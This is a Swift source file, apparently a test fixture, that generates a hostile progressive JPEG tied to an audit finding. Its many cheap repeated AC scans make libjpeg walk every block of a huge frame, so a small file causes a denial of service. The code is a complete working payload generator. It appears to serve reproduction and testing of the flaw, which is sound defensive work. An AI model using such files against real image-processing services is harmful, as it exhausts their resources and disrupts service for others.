import Foundation

/// Builds the hostile JPEG of issue 12, finding 3, byte by byte: a grayscale
/// progressive frame of any size whose first scan codes every block's DC
/// (one 1-bit code each), followed by as many AC scans as asked, each a
/// handful of end-of-band runs covering every block. Each AC scan costs a
/// few dozen bytes yet makes libjpeg walk all blocks of the frame once; a
/// 7000×7000 file with 499 scans is about 117 KB.
///
/// Repeating the AC first scan breaks the progression rules, which libjpeg
/// reports only as a warning ("inconsistent progression sequence") and
/// decodes anyway, as the coder accepts it; with few enough scans the file
/// decodes to uniform mid-grey (128).
enum ManyScanJPEG {
    /// The file: `width`×`height`, `scans` scans in all (1 DC, the rest AC).
    static func make(width: Int, height: Int, scans: Int) -> Data {
        precondition(scans >= 1 && (1...65_535).contains(width) && (1...65_535).contains(height))
        let blocks = ((width + 7) / 8) * ((height + 7) / 8)
        var out: [UInt8] = [0xFF, 0xD8]
        func segment(_ marker: UInt8, _ payload: [UInt8]) {
            out += [0xFF, marker, UInt8((payload.count + 2) >> 8), UInt8((payload.count + 2) & 0xFF)] + payload
        }
        // Quantisation table 0: all ones.
        segment(0xDB, [0x00] + [UInt8](repeating: 1, count: 64))
        // SOF2: 8 bits, height, width, one component (id 1, 1×1, table 0).
        segment(0xC2, [8, UInt8(height >> 8), UInt8(height & 0xFF), UInt8(width >> 8), UInt8(width & 0xFF), 1, 1, 0x11, 0])
        // DC table 0 with one code, '0' (1 bit): category 0, a zero difference.
        segment(0xC4, [0x00, 1] + [UInt8](repeating: 0, count: 15) + [0x00])
        // AC table 0 with one code, '0': symbol 0xE0, an end-of-band run of
        // 2^14 + 14 more bits (all ones: 32767 blocks).
        segment(0xC4, [0x10, 1] + [UInt8](repeating: 0, count: 15) + [0xE0])

        // The DC scan: one '0' bit per block, then 1-bits to the byte boundary.
        segment(0xDA, [1, 1, 0x00, 0, 0, 0x00])
        out += [UInt8](repeating: 0, count: blocks / 8)
        if blocks % 8 != 0 { out.append(0xFF >> UInt8(blocks % 8)) }
        if out.last == 0xFF { out.append(0x00) }

        // Each AC scan: enough runs of 32767 to cover every block.
        var bits = BitWriter()
        for _ in 0..<((blocks + 32_766) / 32_767) {
            bits.append(0, count: 1)
            bits.append(0x3FFF, count: 14)
        }
        let acData = bits.finished()
        for _ in 1..<scans {
            segment(0xDA, [1, 1, 0x00, 1, 63, 0x00])
            out += acData
        }
        out += [0xFF, 0xD9]
        return Data(out)
    }

    /// Writes bits most significant first, stuffing a zero after every 0xFF.
    private struct BitWriter {
        private var bytes: [UInt8] = []
        private var current: UInt32 = 0
        private var used = 0

        mutating func append(_ value: UInt32, count: Int) {
            for shift in stride(from: count - 1, through: 0, by: -1) {
                current = current << 1 | (value >> UInt32(shift) & 1)
                used += 1
                if used == 8 { flush() }
            }
        }

        private mutating func flush() {
            let byte = UInt8(current & 0xFF)
            bytes.append(byte)
            if byte == 0xFF { bytes.append(0x00) }
            current = 0
            used = 0
        }

        /// The bytes, the last one padded with 1-bits.
        mutating func finished() -> [UInt8] {
            if used > 0 { append(0xFF, count: 8 - used) }
            return bytes
        }
    }
}
